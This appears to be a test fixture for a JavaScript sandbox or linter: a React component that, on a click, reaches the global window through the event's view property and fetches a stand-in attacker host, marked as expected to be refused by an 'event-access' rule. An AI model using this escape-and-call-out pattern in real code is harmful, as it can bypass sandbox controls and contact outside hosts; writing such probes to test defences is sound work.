// probe: window through an event; refused by: event-access
import { useEffect } from "react";
export default function Probe() {
  useEffect(() => {
    const listener = (e) => e.view.fetch("https://attacker.test/listener");
    document.addEventListener("click", listener);
    return () => document.removeEventListener("click", listener);
  }, []);
  return <button>Go</button>;
}
